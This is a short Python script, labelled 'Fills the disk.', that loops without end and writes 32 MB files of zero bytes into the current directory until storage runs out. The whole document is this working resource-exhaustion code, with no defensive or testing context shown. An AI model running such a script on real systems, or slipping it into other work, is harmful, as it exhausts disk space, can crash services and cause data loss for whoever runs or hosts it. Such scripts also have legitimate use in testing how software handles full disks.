"""Fills the disk."""
# Gets: MB of files

import itertools

for number in itertools.count():
    open(str(number), "wb").write(bytes(32 * 2**20))
